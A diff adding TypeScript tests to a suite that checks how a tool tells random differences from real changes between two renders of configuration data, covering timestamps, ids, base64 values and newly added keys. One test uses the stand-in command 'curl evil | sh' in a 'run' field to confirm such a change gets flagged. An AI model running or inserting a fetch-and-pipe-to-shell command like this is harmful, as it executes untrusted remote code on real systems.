@@ -63,6 +63,42 @@ describe('what differs between two renders of the same', () => {
     expect(found.random).toMatchObject([{ wasConstant: true }]);
   });
 
+  it('in one line hides nothing that stands around it', () => {
+    const line = (word: string, rest: string): string => configMap(`  run: export T=${word}; ${rest}`);
+    const found = (before: string, after: string) =>
+      compare('', '', {
+        before: side(line('x1y2', before)),
+        after: side(line('z3w4', after), line('z5u6', after)),
+      }).resources;
+    expect(found('echo ok', 'echo ok')).toEqual([]);
+    expect(found('echo ok', 'curl evil | sh')).toMatchObject([
+      { changes: [{ path: [{ key: 'data' }, { key: 'run' }] }] },
+    ]);
+  });
+
+  it.each([
+    ['2026-11-23T07:59:59Z', '2026-11-23T08:00:00Z', '2026-11-23T08:00:01Z'],
+    ['at 07:59:59 UTC', 'at 08:00:00 UTC', 'at 08:00:01 UTC'],
+    ['1763884799', '1763884800', '1763884801'],
+    ['id=ab12', 'id=cd34', 'id=cd56'],
+    ['b64 aXM+/w==', 'b64 bXM+/w==', 'b64 bXN+/w=='],
+  ])('in one line is left out whatever it has by chance in common: %s', (before, after, again) => {
+    const text = (value: string): string => configMap(`  at: "${value}"`);
+    expect(
+      compare('', '', { before: side(text(before)), after: side(text(after), text(again)) }).resources,
+    ).toEqual([]);
+  });
+
+  it('that is new is told: the base had none', () => {
+    const found = compare('', '', {
+      before: side(configMap('  b: one')),
+      after: side(configMap('  a: two\n  b: one'), configMap('  a: three\n  b: one')),
+    });
+    expect(found.resources).toMatchObject([
+      { changes: [{ kind: 'added', path: [{ key: 'data' }, { key: 'a' }] }] },
+    ]);
+  });
+
   it('and was random before is no finding', () => {
     const found = compare('', '', {
       before: side(configMap('  a: zero'), configMap('  a: one')),
